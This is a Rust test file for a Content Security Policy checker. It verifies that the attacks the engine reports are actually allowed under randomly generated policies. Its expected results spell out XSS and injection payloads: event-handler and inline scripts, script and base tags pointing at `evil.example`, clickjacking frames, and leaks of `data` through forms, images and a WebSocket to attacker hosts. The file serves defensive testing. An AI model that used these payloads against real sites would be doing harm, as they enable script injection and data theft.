//! The table of attacks and the named promises: what works is allowed by the engine, and a promise that holds leaves nothing.

use crate::cases::{LINTS, cases};
use security_policy_core::csp::attack::TEMPLATES;
use security_policy_core::csp::{Clause, ClauseValue, Csp, Directive, Disposition, SourceExpression};
use security_policy_core::fetch::{
    Destination, FrameOptions, Inline, InlineKind, Navigation, Policies, PolicySource, Request,
};
use security_policy_core::lint::find;
use security_policy_core::promise::{
    ATTACKS, Attack, Harm, Kind, NAMED, Place, Way, attacks, breaks, shortest, violation, widened,
};
use security_policy_core::url::{Origin, Url};
use security_policy_core::{Span, Spanned};
use security_policy_tests::{Random, SEED};
use std::collections::BTreeSet;

const ROUNDS: usize = 1_500;

const LISTS: &[&str] = &[
    "default-src",
    "default-src",
    "script-src",
    "script-src",
    "script-src-elem",
    "script-src-attr",
    "style-src",
    "style-src-attr",
    "img-src",
    "connect-src",
    "frame-src",
    "object-src",
    "media-src",
    "font-src",
    "base-uri",
    "base-uri",
    "form-action",
    "frame-ancestors",
];

const SOURCES: &[&str] = &[
    "'none'",
    "'none'",
    "'self'",
    "'unsafe-inline'",
    "'unsafe-hashes'",
    "'strict-dynamic'",
    "'nonce-abc'",
    HASH,
    HASH,
    "https:",
    "http:",
    "wss:",
    "data:",
    "blob:",
    "*",
    "https://cdn.example",
    "http://cdn.example:8080",
    "*.example",
    "cdn.example/js/",
    "https://*:8443",
    "https://*.cdn.example:*",
    "https://cdn.example/js/app.js",
    "http://localhost",
];

const HASH: &str = "'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='";

const OTHERS: &[&str] =
    &["sandbox", "sandbox allow-scripts", "upgrade-insecure-requests", "require-trusted-types-for 'script'"];

/// URLs that none of the searches is told of.
const URLS: &[&str] = &[
    "https://shop.example/x.js",
    "http://shop.example/",
    "https://other.example/",
    "https://cdn.example/js/app.js",
    "https://cdn.example/js/x.js",
    "https://cdn.example/x",
    "https://cdn.example:8443/",
    "https://a.cdn.example:8443/js/",
    "https://a.cdn.example/",
    "http://cdn.example:8080/a",
    "http://other.test/",
    "https://other.test:8443/",
    "https://other.test/js/app.js",
    "wss://other.test/",
    "ws://cdn.example/",
    "data:text/javascript,x",
    "blob:https://shop.example/1",
    "http://localhost/",
];

fn origin() -> Origin {
    Origin::parse("https://shop.example", Span::default()).expect("an origin")
}

fn urls() -> impl Iterator<Item = Url> {
    URLS.iter().map(|text| text.parse().expect("a URL"))
}

/// A policy with the nonce of the response, which no header text can have.
fn csp(random: &mut Random) -> Csp {
    let mut parts: Vec<String> = Vec::new();
    for _ in 0..random.below(6) {
        let sources: Vec<&str> = (0..random.below(3)).map(|_| random.pick(SOURCES)).collect();
        parts.push(format!("{} {}", random.pick(LISTS), sources.join(" ")));
    }
    if random.below(8) == 0 {
        parts.push(random.pick(OTHERS).to_owned());
    }
    let (mut csp, _) = Csp::parse(&parts.join("; "), Disposition::Enforce);
    for clause in &mut csp.clauses {
        if let (ClauseValue::Sources(sources), 0) = (&mut clause.value, random.below(3)) {
            sources.push(Spanned::new(SourceExpression::Nonce, Span::default()));
        }
    }
    csp
}

fn policies(random: &mut Random) -> Policies<'static> {
    let mut all = Policies::new(origin());
    for _ in 0..[1, 1, 2, 3][random.below(4)] {
        all = all.with(csp(random), PolicySource::Header);
    }
    match random.below(6) {
        0 => all.frame_options(FrameOptions::Deny),
        1 => all.frame_options(FrameOptions::SameOrigin),
        _ => all,
    }
}

fn describe(policies: &Policies<'_>) -> String {
    let texts: Vec<String> = policies
        .iter()
        .map(|policy| {
            format!(
                "{:?}",
                policy
                    .csp()
                    .clauses
                    .iter()
                    .map(|clause| {
                        let sources: Vec<String> =
                            clause.sources().iter().map(|source| source.node.to_string()).collect();
                        format!("{} {}", clause.directive.node.name(), sources.join(" "))
                    })
                    .collect::<Vec<_>>()
            )
        })
        .collect();
    texts.join("\n")
}

/// The value of an attribute in the text of an attack.
fn attribute<'a>(text: &'a str, name: &str) -> Option<&'a str> {
    let (_, rest) = text.split_once(&format!("{name}=\""))?;
    Some(rest.split_once('"')?.0)
}

/// What the printed text asks for, read from the text alone. `None` for what has no URL.
fn asks(policies: &Policies<'_>, attack: &Attack<'_>) -> Option<bool> {
    let text = attack.text();
    assert_eq!(attack.to_string(), text);
    assert!(!attack.steps().is_empty(), "{text}");
    let request = |destination, name: &str| {
        let url: Url = attribute(text, name)?.parse().ok()?;
        Some(policies.allows(&Request::new(destination, url)))
    };
    match attack.name() {
        "script_of_attacker" | "script_of_listed_host" | "script_of_site" | "script_data" => {
            request(Destination::Script, "src")
        }
        "svg_script" => request(Destination::Script, "href"),
        "modulepreload" => Some(policies.allows(&Request::modulepreload(attribute(text, "href")?).ok()?)),
        "stylesheet" => request(Destination::Style, "href"),
        "image" => request(Destination::Image, "src"),
        "video" => request(Destination::Video, "src"),
        "audio" => request(Destination::Audio, "src"),
        "ping" => request(Destination::Empty, "ping"),
        "manifest" => request(Destination::Manifest, "href"),
        "frame" => request(Destination::Iframe, "src"),
        "object" => request(Destination::Object, "data"),
        "embed" => request(Destination::Embed, "src"),
        "prefetch" => Some(policies.allows(&Request::prefetch(attribute(text, "href")?).ok()?)),
        "form" => Some(policies.allows(&Navigation::form(attribute(text, "action")?).ok()?)),
        "formaction" => Some(policies.allows(&Navigation::form(attribute(text, "formaction")?).ok()?)),
        "base" | "base_script" | "base_style" => {
            Some(policies.allows(&Navigation::base(attribute(text, "href")?).ok()?))
        }
        "inline_script" | "srcdoc_frame" => Some(policies.allows(&Inline::script("alert(1)"))),
        "event_handler" => Some(policies.allows(&Inline::event_handler("alert(1)"))),
        "javascript_link" => Some(policies.allows(&Inline::javascript_url(attribute(text, "href")?))),
        "javascript_frame" => Some(policies.allows(&Inline::javascript_url(attribute(text, "src")?))),
        "svg_animate" => Some(policies.allows(&Inline::javascript_url(attribute(text, "values")?))),
        "svg_set" => Some(policies.allows(&Inline::javascript_url(attribute(text, "to")?))),
        "javascript_form" => Some(policies.allows(&Inline::javascript_url(attribute(text, "action")?))),
        "static_nonce" => Some(policies.allows(&Inline::script("alert(1)").nonce(attribute(text, "nonce")?))),
        "style_element" => Some(policies.allows(&Inline::style("*{color:red}"))),
        "style_attribute" => Some(policies.allows(&Inline::style_attribute("color:red"))),
        "eval_sink" => Some(policies.allows(&Inline::eval())),
        name if name.starts_with("framed") => Some(policies.allows(&Navigation::framed_by([attack.ancestor()?]).ok()?)),
        _ => None,
    }
}

#[test]
fn what_is_printed_is_allowed() {
    let mut random = Random::new(SEED);
    let mut seen: BTreeSet<&str> = BTreeSet::new();
    let mut checked = 0;
    for _ in 0..ROUNDS {
        let policies = policies(&mut random);
        for attack in attacks(&policies) {
            seen.insert(attack.name());
            if let Some(is_allowed) = asks(&policies, &attack) {
                assert!(is_allowed, "{} under\n{}", attack.quoted(), describe(&policies));
                checked += 1;
            }
            for ruling in attack.lets_in() {
                assert!(ruling.reason.allows(), "{ruling} of {}", attack.quoted());
            }
            assert!(!attack.lets_in().is_empty() || !attack.missing().is_empty(), "{}", attack.quoted());
        }
    }
    assert!(checked > 10 * ROUNDS, "{checked}");
    let never: Vec<&str> = ATTACKS.iter().map(|row| row.template.name).filter(|name| !seen.contains(name)).collect();
    assert_eq!(never, Vec::<&str>::new(), "attacks that never work");
}

#[test]
fn a_promise_fails_exactly_where_an_attack_works() {
    let mut random = Random::new(SEED ^ 1);
    let mut held = vec![0; NAMED.len()];
    for _ in 0..ROUNDS / 2 {
        let policies = policies(&mut random);
        let all = attacks(&policies);
        for (index, named) in NAMED.iter().enumerate() {
            let Some(harm) = named.rules_out else { continue };
            let works = all.iter().find(|attack| breaks(attack).any(|other| other == named));
            let shortest = shortest(&policies, harm);
            assert_eq!(shortest.is_some(), works.is_some(), "{}\n{}", named.word.key, describe(&policies));
            held[index] += usize::from(shortest.is_none());
            if let (Some(shortest), Some(works)) = (shortest, works) {
                let is_comparable = shortest.place() != Some(Place::Socket) && works.place() != Some(Place::Socket);
                assert!(!is_comparable || shortest.quoted().chars().count() <= works.quoted().chars().count());
            }
        }
    }
    for (named, held) in NAMED.iter().zip(held).filter(|(named, _)| named.rules_out.is_some()) {
        assert!(held > 1, "{} holds {held} times: the test shows nothing", named.word.key);
    }
}

/// A subject that breaks a promise, found by trying each of many URLs.
fn broken(policies: &Policies<'_>, harm: Harm) -> Option<String> {
    let allows = |url: &Url| match harm {
        Harm::Script => {
            policies.allows(&Request::new(Destination::Script, url.clone()))
                || policies.allows(&Request::new(Destination::Script, url.clone()).not_parser_inserted())
                || policies.allows(&Request::new(Destination::Script, url.clone()).nonce("abc"))
        }
        Harm::Style => policies.allows(&Request::new(Destination::Style, url.clone())),
        Harm::Plugin => policies.allows(&Request::new(Destination::Object, url.clone())),
        Harm::Framed => policies.allows(&Navigation::framed_by([url.to_string().as_str()]).expect("a URL")),
        Harm::Base => {
            url.host() != Some("shop.example")
                && url.host().is_some()
                && policies.allows(&Navigation::base_at(url.clone()))
        }
        _ => false,
    };
    // What is plain http on a page over https never loads.
    let counts = |url: &Url| match url.scheme() {
        "http" => matches!(harm, Harm::Framed | Harm::Base),
        "ws" | "wss" => harm == Harm::Base,
        // The origin of a page has a host.
        _ => harm != Harm::Framed || url.host().is_some(),
    };
    if let Some(url) = urls().filter(counts).find(allows) {
        return Some(url.to_string());
    }
    let inline: &[InlineKind] = match harm {
        Harm::Script => &[InlineKind::Script, InlineKind::ScriptAttribute, InlineKind::Navigation],
        Harm::Style => &[InlineKind::Style, InlineKind::StyleAttribute],
        _ => &[],
    };
    inline.iter().find(|kind| policies.allows(&Inline::unknown(**kind))).map(|kind| format!("{kind:?}"))
}

#[test]
fn where_a_promise_holds_nothing_else_is_found() {
    let mut random = Random::new(SEED ^ 2);
    let mut held = 0;
    for _ in 0..ROUNDS {
        let policies = policies(&mut random);
        for harm in [Harm::Script, Harm::Style, Harm::Plugin, Harm::Framed, Harm::Base] {
            if shortest(&policies, harm).is_none() {
                held += 1;
                assert_eq!(broken(&policies, harm), None, "{harm:?}\n{}", describe(&policies));
            }
        }
    }
    assert!(held > ROUNDS / 3, "{held}");
}

/// The proof by attacks and the proof by containment agree where both are about the same.
#[test]
fn attacks_agree_with_containment() {
    let mut random = Random::new(SEED ^ 3);
    let kind = |key| Kind::from_key(key).expect("a kind");
    let own = [Spanned::new(SourceExpression::parse("'self'").expect("a source"), Span::default())];
    for _ in 0..ROUNDS {
        let policies = policies(&mut random);
        for (harm, key, list) in
            [(Harm::Plugin, "object", &[][..]), (Harm::Framed, "framed_by", &[]), (Harm::Base, "base", &own)]
        {
            let attack = shortest(&policies, harm);
            let found = violation(&policies, &[kind(key)], list);
            // A base of another form is none, an ancestor may have an opaque origin, and plain http does not load.
            let is_same_subject = found.as_ref().is_none_or(|found| match (&found.url, harm) {
                (None, _) => false,
                (Some(url), Harm::Base) => url.host().is_some(),
                (Some(url), _) => url.scheme() != "http",
            });
            if is_same_subject {
                assert_eq!(
                    attack.as_ref().map(Attack::quoted).is_some(),
                    found.is_some(),
                    "{key}: {:?} and {:?}\n{}",
                    attack.map(|attack| attack.quoted()),
                    found.map(|found| found.url),
                    describe(&policies)
                );
            }
        }
    }
}

/// One enforced policy keeps `no_injected_script` exactly where its lists have nothing but nonces and hashes.
#[test]
fn a_single_policy_is_proved_by_its_lists() {
    let mut random = Random::new(SEED ^ 4);
    let mut held = 0;
    for _ in 0..3 * ROUNDS {
        let csp = csp(&mut random);
        let policies = Policies::new(origin()).with(csp.clone(), PolicySource::Header);
        let holds = shortest(&policies, Harm::Script).is_none();
        assert_eq!(holds, by_its_lists(&csp), "{}", describe(&policies));
        held += usize::from(holds);
    }
    assert!(held > 100, "{held}");
}

fn by_its_lists(csp: &Csp) -> bool {
    use SourceExpression as S;
    if csp.get(Directive::Sandbox).is_some_and(|clause| !format!("{clause:?}").contains("allow_scripts")) {
        return true;
    }
    let (Some(elements), Some(handlers)) =
        (csp.effective_clause(Directive::ScriptSrcElem), csp.effective_clause(Directive::ScriptSrcAttr))
    else {
        return false;
    };
    let has = |clause: &Clause, text: &str| clause.sources().iter().any(|source| source.node.to_string() == text);
    let is_overridden = |clause| {
        has(clause, "'nonce-'") || has(clause, "'nonce-abc'") || has(clause, HASH) || has(clause, "'strict-dynamic'")
    };
    let trusts_hash = |clause| has(clause, "'unsafe-hashes'") && has(clause, HASH);
    // No script is loaded from a WebSocket.
    let opens = |source: &S| match source.to_string().as_str() {
        "wss:" | "ws:" => false,
        "'self'" | "'strict-dynamic'" => true,
        _ => matches!(source, S::Host(_) | S::Scheme(_) | S::FixedNonce(_)),
    };
    let requires_types = csp.get(Directive::RequireTrustedTypesFor).is_some();
    let base = csp.get(Directive::BaseUri);
    // `data:` is no base, and neither is what has no host.
    let moves = base.is_none_or(|base| {
        base.sources().iter().any(|source| match &source.node {
            S::Host(_) => true,
            S::Scheme(scheme) => !matches!(scheme.as_str(), "data" | "blob" | "wss"),
            source => source.to_string() == "'self'",
        })
    });
    !(elements.sources().iter().any(|source| opens(&source.node))
        || (has(elements, "'unsafe-inline'") && !is_overridden(elements))
        || (has(handlers, "'unsafe-inline'") && !is_overridden(handlers))
        || trusts_hash(handlers)
        || (trusts_hash(elements) && !requires_types)
        || (has(elements, "'nonce-'") && moves))
}

#[test]
fn a_slot_is_any_source() {
    let slot = |directive, key: &str| {
        let (mut csp, _) = Csp::parse("default-src 'none'", Disposition::Enforce);
        csp.clauses.push(Clause {
            directive: Spanned::new(directive, Span::default()),
            value: ClauseValue::Sources(vec![Spanned::new(SourceExpression::Slot(key.to_owned()), Span::new(7, 9))]),
        });
        Policies::new(origin()).with(csp, PolicySource::Header)
    };
    let policies = slot(Directive::ScriptSrc, "cdn");
    assert!(shortest(&policies, Harm::Script).is_none(), "the engine lets a slot match nothing");
    let wide = widened(&policies).expect("a slot");
    let attack = shortest(&wide, Harm::Script).expect("an attack");
    assert_eq!(attack.lets_in()[0].matched().map(|source| source.span), Some(Span::new(7, 9)));
    assert!(widened(&Policies::new(origin()).enforce("script-src *")).is_none());
}

#[test]
fn each_template_has_a_row() {
    let rows: Vec<&str> = ATTACKS.iter().map(|row| row.template.name).collect();
    let templates: Vec<&str> = TEMPLATES.iter().map(|template| template.name).collect();
    assert_eq!(rows, templates, "the two tables are in the same order");
    for row in ATTACKS {
        // The URL of a reused module is that of the site's own element.
        let has_place = row.template.has_url() || row.way == Way::Ancestor || !row.beside.is_empty();
        assert_eq!(row.places.is_empty(), !has_place, "{}", row.template.name);
    }
}

/// The lints whose note shows an attack, with the text that it shows.
fn shown() -> Vec<(&'static str, String)> {
    use security_policy_core::csp::attack as text;
    vec![
        ("csp_broad_source", text::FORM.of_attacker()),
        ("csp_bypassable_host", text::SCRIPT_OF_LISTED_HOST.with("https://cdn.jsdelivr.net/npm/evil")),
        ("csp_missing_base_uri", text::BASE_SCRIPT.of_attacker()),
        ("csp_missing_form_action", text::FORM.of_attacker()),
        ("csp_missing_object_src", text::OBJECT.of_attacker()),
        ("csp_missing_script_src", text::INLINE_SCRIPT.of_attacker()),
        ("csp_report_only_alone", text::INLINE_SCRIPT.of_attacker()),
        ("csp_script_broad_source", text::SCRIPT_OF_ATTACKER.of_attacker()),
        ("csp_script_broad_source", text::SCRIPT_DATA.with("data:,alert(1)")),
        ("csp_script_unsafe_inline", text::INLINE_SCRIPT.of_attacker()),
        ("csp_strict_dynamic", text::MODULEPRELOAD.of_attacker()),
        ("csp_style_unsafe_inline", text::STYLE_ELEMENT.of_attacker()),
        ("framing_ancestors_broad", text::FRAMED_BY_ATTACKER.fill(text::PAGE, "https://shop.example/")),
        ("framing_missing", text::FRAMED_BY_ATTACKER.fill(text::PAGE, "https://shop.example/")),
    ]
}

/// The note of a lint, its page and the table of attacks show the same text.
#[test]
fn lints_show_attacks_of_the_table() {
    let cases = cases(LINTS);
    for (name, attack) in shown() {
        let lint = find(name).unwrap_or_else(|| panic!("{name} is a lint"));
        let section = lint.explanation.split("# Attack").nth(1).and_then(|rest| rest.split("\n # Example").next());
        assert!(section.is_some_and(|section| section.contains(&attack)), "the page of {name} does not show {attack}");
        let is_note = |line: &str| line.trim().starts_with("note: ") && line.contains(&format!("`{attack}`"));
        let is_shown = cases.iter().any(|case| case.lints().contains(&name) && case.expected.lines().any(is_note));
        assert!(is_shown, "no case of {name} shows {attack}");
    }
}

/// The hash of `alert(1)`.
const ALERT: &str = "'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='";

/// The shortest attack under the policies in a text, each after a line break.
fn attack_on(policies: &str, harm: Harm) -> Option<String> {
    let origin = origin();
    let policies = policies.lines().fold(Policies::new(origin), |all, text| match text.strip_prefix("report ") {
        Some(text) => all.report_only(text),
        None => all.enforce(text),
    });
    shortest(&policies, harm).map(|attack| format!("{} {}", attack.name(), attack.quoted()))
}

#[test]
fn scripts() {
    for (policies, expected) in [
        ("", Some("event_handler `<svg onload=\"alert(1)\">`")),
        ("report script-src 'none'", Some("event_handler `<svg onload=\"alert(1)\">`")),
        ("sandbox", None),
        ("sandbox allow-scripts", Some("event_handler `<svg onload=\"alert(1)\">`")),
        ("script-src 'none'", None),
        ("default-src 'none'", None),
        (
            "default-src 'none'; script-src-elem 'self'",
            Some("script_of_site `<script src=\"https://shop.example/upload/\"></script>`"),
        ),
        ("script-src 'none'; script-src-attr 'unsafe-inline'", Some("event_handler `<svg onload=\"alert(1)\">`")),
        ("script-src 'unsafe-inline'; script-src-attr 'none'", Some("inline_script `<script>alert(1)</script>`")),
        ("script-src 'nonce-'; base-uri 'none'", None),
        ("script-src https:", Some("script_of_attacker `<script src=\"https://evil.example/\"></script>`")),
        (
            "script-src https://cdn.jsdelivr.net; base-uri 'none'",
            Some("script_of_listed_host `<script src=\"https://cdn.jsdelivr.net/npm/evil\"></script>`"),
        ),
        (
            "script-src https://*.example.com/js/",
            Some("script_of_listed_host `<script src=\"https://evil.example.com/js/\"></script>`"),
        ),
        ("script-src data:", Some("script_data `<script src=\"data:,alert(1)\"></script>`")),
        ("script-src blob:", Some("script_blob `<script src=\"blob:https://shop.example/…\"></script>`")),
        ("script-src filesystem:", Some("script_blob `<script src=\"filesystem:https://shop.example/…\"></script>`")),
        ("script-src 'nonce-abc'; base-uri 'none'", Some("static_nonce `<script nonce=\"abc\">alert(1)</script>`")),
        (&format!("script-src {ALERT}"), None),
        (&format!("script-src 'unsafe-hashes' {ALERT}"), Some("listed_handler `<svg onload=\"…\">`")),
        (
            &format!("script-src-elem 'unsafe-hashes' {ALERT}; script-src-attr 'none'"),
            Some("listed_javascript_url `<iframe src=\"javascript:…\"></iframe>`"),
        ),
        (
            &format!(
                "script-src 'unsafe-hashes' {ALERT}\nscript-src 'unsafe-hashes' 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='"
            ),
            None,
        ),
        (
            "script-src 'strict-dynamic'; base-uri 'none'",
            Some(
                "modulepreload `<link rel=\"modulepreload\" href=\"https://evil.example/\"><script type=\"module\" src=\"https://evil.example/\"></script>`",
            ),
        ),
        ("script-src 'strict-dynamic'\nscript-src 'none'", None),
        ("script-src 'unsafe-inline'\nscript-src data:", None),
        (
            "script-src https://*.a.example:*\nscript-src https://*:8443",
            Some("script_of_listed_host `<script src=\"https://evil.a.example:8443/\"></script>`"),
        ),
    ] {
        assert_eq!(attack_on(policies, Harm::Script).as_deref(), expected, "{policies}");
    }
}

/// Each policy allows code with one of two hashes, so that there are twice as many combinations with each policy.
#[test]
fn hashes_of_many_policies_are_not_combined() {
    let hash = |algorithm: &str, length: usize, first: char| {
        let digest = format!("{first}{}", "A".repeat(length - 1));
        format!("'{algorithm}-{digest}{}'", "=".repeat(length.next_multiple_of(4) - length))
    };
    let sha256 = |first| hash("sha256", 43, first);
    let sha384 = |first| hash("sha384", 64, first);
    let sha512 = hash("sha512", 86, 'a');
    let list = |hashes: &str| format!("script-src 'unsafe-hashes' {hashes}\n");
    let many = list(&format!("{} {} {}", sha256('a'), sha384('a'), sha256('a'))).repeat(100);
    let with = |last: &str| attack_on(&format!("{many}{last}"), Harm::Script);
    let handler = Some("listed_handler `<svg onload=\"…\">`");
    assert_eq!(with(&list(&sha384('a'))).as_deref(), handler);
    assert_eq!(with(&list(&sha384('b'))).as_deref(), handler);
    assert_eq!(with(&list(&sha512)).as_deref(), handler);
    assert_eq!(with(&(list(&sha256('b')) + &list(&sha512) + &list(&sha384('a')))).as_deref(), handler);
    assert_eq!(with(&(list(&sha256('b')) + &list(&sha384('b')))), None);
}

#[test]
fn a_nonce_needs_a_base() {
    // In a declaration the nonce of the response is no text: no header has it.
    let origin = origin();
    let with_base = |base: &str, script: Vec<SourceExpression>| {
        let (mut csp, _) = Csp::parse(base, Disposition::Enforce);
        csp.clauses.push(Clause {
            directive: Spanned::new(Directive::ScriptSrc, Span::default()),
            value: ClauseValue::Sources(
                script.into_iter().map(|source| Spanned::new(source, Span::default())).collect(),
            ),
        });
        let policies = Policies::new(origin.clone()).with(csp, PolicySource::Header);
        shortest(&policies, Harm::Script).map(|attack| attack.quoted())
    };
    for (base, expected) in [
        ("", Some("`<base href=\"https://evil.example/\">` above `<script nonce=\"…\" src=\"app.js\"></script>`")),
        (
            "base-uri 'self'",
            Some("`<base href=\"https://shop.example/upload/\">` above `<script nonce=\"…\" src=\"app.js\"></script>`"),
        ),
        (
            "base-uri https://cdn.example",
            Some("`<base href=\"https://cdn.example/\">` above `<script nonce=\"…\" src=\"app.js\"></script>`"),
        ),
        ("base-uri data:", None),
        ("base-uri 'none'", None),
    ] {
        assert_eq!(with_base(base, vec![SourceExpression::Nonce]).as_deref(), expected, "{base}");
    }
}

#[test]
fn other_harms() {
    for (policies, harm, expected) in [
        ("base-uri 'none'", Harm::Base, None),
        ("base-uri 'self'", Harm::Base, None),
        ("default-src 'none'", Harm::Base, Some("base `<base href=\"https://evil.example/\">`")),
        ("base-uri 'self' cdn.example", Harm::Base, Some("base `<base href=\"https://cdn.example/\">`")),
        ("object-src 'none'", Harm::Plugin, None),
        ("object-src data:", Harm::Plugin, Some("embed `<embed src=\"data:image/gif,x\">`")),
        ("object-src 'self'", Harm::Plugin, Some("embed `<embed src=\"https://shop.example/upload/\">`")),
        ("frame-ancestors 'none'", Harm::Framed, None),
        (
            "frame-ancestors 'self'",
            Harm::Framed,
            Some(
                "framed_by_site `<iframe src=\"https://shop.example/\"></iframe>` in a page of `https://shop.example`",
            ),
        ),
        (
            "frame-ancestors *\nframe-ancestors https://*.partner.example",
            Harm::Framed,
            Some(
                "framed_by_listed `<iframe src=\"https://shop.example/\"></iframe>` in a page of `https://evil.partner.example`",
            ),
        ),
        ("style-src 'none'", Harm::Style, None),
        (
            "style-src 'none'; style-src-attr 'unsafe-inline'",
            Harm::Style,
            Some("style_attribute `<p style=\"color:red\">x</p>`"),
        ),
        ("default-src 'none'; form-action 'none'; base-uri 'none'", Harm::Leak, None),
        ("default-src 'self'; form-action 'self'; base-uri 'none'", Harm::Leak, None),
        (
            "default-src 'self'; form-action 'self'; img-src img.example",
            Harm::Leak,
            Some("image `<img src=\"https://img.example/?data\">`"),
        ),
        (
            "default-src 'self'",
            Harm::Mixed,
            Some("form `<form action=\"http://evil.example/\"><button name=\"data\">x</button></form>`"),
        ),
        ("default-src 'self'; form-action 'self' http://localhost", Harm::Mixed, None),
        (
            "default-src 'self'; form-action 'self'; img-src http://img.example",
            Harm::Mixed,
            Some("image `<img src=\"http://img.example/?data\">`"),
        ),
        ("default-src 'self'; form-action 'self'; img-src img.example", Harm::Mixed, None),
        ("default-src *; upgrade-insecure-requests", Harm::Mixed, None),
        ("default-src *; block-all-mixed-content", Harm::Mixed, None),
        (
            "default-src 'self'; form-action 'self'; connect-src ws:",
            Harm::Mixed,
            Some("websocket `new WebSocket(\"ws://evil.example/?data\")` in a script of the page"),
        ),
    ] {
        assert_eq!(attack_on(policies, harm).as_deref(), expected, "{harm:?}: {policies}");
    }
}
